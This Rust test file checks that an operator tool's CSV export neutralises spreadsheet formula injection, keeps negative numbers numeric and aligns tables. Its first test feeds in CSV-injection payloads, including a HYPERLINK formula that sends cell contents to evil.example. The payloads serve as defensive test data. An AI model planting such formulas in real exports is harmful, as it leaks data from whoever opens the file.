//! What the operator commands print for people and spreadsheets: CSV cells that a spreadsheet
//! would read as formulas are neutralised, amounts stay numbers, tables line up.

use capture_worker::app::operator::{self, Cell};
use capture_worker::cli::OutputFormat;
use capture_worker::storage::operator::RejectionRow;

use crate::operator::parse_csv;

fn refusal(message_id: &str, order_id: &str, detail: &str) -> RejectionRow {
    RejectionRow {
        rejection_id: 7,
        received_at: chrono::Utc::now(),
        reason: "invalid_amount".into(),
        detail: detail.into(),
        message_id: Some(message_id.into()),
        message_type: Some("order.authorized".into()),
        order_id: Some(order_id.into()),
        routing_key: Some("order.authorized".into()),
        body: None,
        has_body: false,
        requeued_at: None,
    }
}

#[test]
fn a_csv_id_beginning_with_a_formula_character_is_neutralised() {
    let rows = [
        refusal(
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "@SUM(A1:A9)",
            "+1+1",
        ),
        refusal("-2+3", "\tindent", "\r=1"),
        refusal("wh-7f3a-0001", "ORD-1001", "plain, with a comma"),
    ];
    let csv = operator::dead_letters::render_list(&rows, OutputFormat::Csv).unwrap();
    let parsed = parse_csv(&csv);
    let column = |name: &str| parsed[0].iter().position(|c| c == name).unwrap();
    let (message, order, detail, id) = (
        column("message_id"),
        column("order_id"),
        column("detail"),
        column("rejection_id"),
    );

    assert_eq!(
        parsed[1][message],
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    );
    assert_eq!(parsed[1][order], "'@SUM(A1:A9)");
    assert_eq!(parsed[1][detail], "'+1+1");
    assert_eq!(parsed[2][message], "'-2+3");
    assert_eq!(parsed[2][order], "'\tindent");
    assert_eq!(parsed[2][detail], "'\r=1");
    // Harmless text and our own numbers are written as they are.
    assert_eq!(parsed[3][message], "wh-7f3a-0001");
    assert_eq!(parsed[3][detail], "plain, with a comma");
    assert!(parsed[1..].iter().all(|row| row[id] == "7"));
    // No cell of the file starts a formula.
    for row in &parsed[1..] {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} in {csv:?}"
            );
        }
    }
}

#[test]
fn csv_numbers_we_write_stay_numbers_even_when_negative() {
    let csv = operator::csv(
        &["id", "amount", "major"],
        &[vec![
            Cell::text("-5"),
            Cell::number(-6979),
            Cell::Number("-69.79".into()),
        ]],
    )
    .unwrap();
    assert_eq!(csv, "id,amount,major\r\n'-5,-6979,-69.79\r\n");
}

#[test]
fn tables_right_align_number_columns_and_leave_text_as_it_is() {
    let out = operator::table(
        &["order", "captured"],
        &[
            vec!["ORD-1", "69.79"],
            vec!["=not-a-formula-on-a-terminal", "1000"],
        ],
    );
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 3, "{out}");
    assert!(lines[0].starts_with("order"), "{out}");
    assert!(lines[1].ends_with("   69.79"), "{out}");
    assert!(lines[2].ends_with("  1000"), "{out}");
    assert!(lines[2].starts_with("=not-a-formula"), "{out}");
    assert_eq!(lines[1].len(), lines[2].len(), "{out}");
}
